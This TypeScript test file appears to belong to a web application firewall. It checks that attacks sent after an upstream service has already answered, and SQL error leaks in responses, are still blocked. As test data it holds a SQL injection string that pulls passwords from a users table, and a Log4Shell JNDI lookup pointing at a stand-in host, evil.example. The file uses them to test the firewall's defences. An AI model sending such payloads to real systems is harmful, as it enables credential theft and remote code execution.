// Through the real Envoy: a service that responds before the request's end. The rest of the request is inspected as
// if there were no response yet, and the response as if the request had ended.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Answer } from '../../demo/stack/answer.ts';
import type { Arrival, HeaderPairs } from '../../demo/stack/arrivals.ts';
import type { Request } from '../../demo/stack/client.ts';
import { Front, harmlessBody, protocols } from '../support/exchange-front.ts';
import { until } from '../support/until.ts';

const attack = "1' union select password from users-- -";
const leak = 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version';
const types = ['text/plain', 'application/x-www-form-urlencoded', 'x/odd'];

interface Plan {
  /** The service's response as soon as it has the head. */
  readonly answer: string;
  readonly type?: string;
  /** The pieces of the body; each is sent when the service has responded and has received the previous one. */
  readonly pieces: readonly string[];
  /** The body never ends. */
  readonly isOpen?: boolean;
  readonly more?: HeaderPairs;
}

let count = 0;

function exchange(front: Front, plan: Plan, protocol: 'http1' | 'http2') {
  count += 1;
  const id = `early-${count}`;
  const arrival = (): Arrival | undefined => front.upstream.arrivals.find(id);
  async function* body(): AsyncGenerator<Uint8Array> {
    await until('the service has the head', () => arrival() !== undefined);
    for (const piece of plan.pieces) yield Buffer.from(piece, 'latin1');
    if (plan.isOpen === true) await new Promise(() => {});
  }
  const headers: HeaderPairs = [
    ['x-exchange', id],
    ['content-type', plan.type ?? 'text/plain'],
    ['x-answer', Buffer.from(plan.answer).toString('base64')],
    // Announced trailers: the head is held for a short time only.
    ['trailer', 'x-sum'],
    ...(plan.more ?? []),
  ];
  const request: Request = { method: 'POST', path: '/early', headers, body: body(), sendsOn: true };
  return front.exchange(request, { protocol });
}

/** The exchange was stopped: Weir's response, or the service's without its end. */
const isStopped = ({ status, end }: Answer): boolean => status === 403 || end === 'cut';

for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
  describe(`a service that responds early, ${mode}`, () => {
    let front: Front;
    beforeAll(async () => {
      front = await Front.start({ mode });
    });
    afterAll(() => front.stop());

    for (const protocol of protocols) {
      it(`does not get an attack that comes after its response (${protocol})`, async () => {
        for (const type of types) {
          const text = type.endsWith('urlencoded') ? `q=${encodeURIComponent(attack)}` : attack;
          for (const isOpen of [true, false]) {
            const plan = { answer: 'begun', type, pieces: [text], isOpen };
            const { answer, arrival } = await exchange(front, plan, protocol);
            expect(isStopped(answer), `${type}: ${answer.status} ${answer.end}`).toBeTruthy();
            expect(arrival?.bodyBytes, type).toBe(0);
          }
        }
      });

      it(`does not get an attack in two halves, with part of the response in between (${protocol})`, async () => {
        const plan = { answer: 'j', pieces: ['\x24{jn', 'di:ldap://evil.example/a}'], isOpen: true };
        const { answer, arrival } = await exchange(front, plan, protocol);
        expect(isStopped(answer)).toBeTruthy();
        expect(arrival?.bodyBytes ?? 0, `${arrival?.bodyBytes}`).toBeLessThanOrEqual(5);
      });

      it(`has its leak stopped while the request is open (${protocol})`, async () => {
        for (const ends of [[], [['x-answer-ends', '1']]] satisfies HeaderPairs[]) {
          const { answer } = await exchange(
            front,
            { answer: leak, pieces: ['abc'], isOpen: true, more: ends },
            protocol,
          );
          expect(isStopped(answer), `${answer.status} ${answer.end}`).toBeTruthy();
          expect(answer.body.includes('SQL syntax'), answer.body).toBe(false);
        }
      });

      it(`may show SQL while a harmless request is open (${protocol})`, async () => {
        const pieces = [harmlessBody(1000).toString('latin1'), 'the end'];
        const { answer, arrival } = await exchange(front, { answer: `<pre>${attack}</pre>`, pieces }, protocol);
        expect([answer.status, answer.end, arrival?.bodyBytes]).toStrictEqual([200, 'complete', 1007]);
        expect(answer.body.includes(attack)).toBe(true);
      });
    }
  });
}
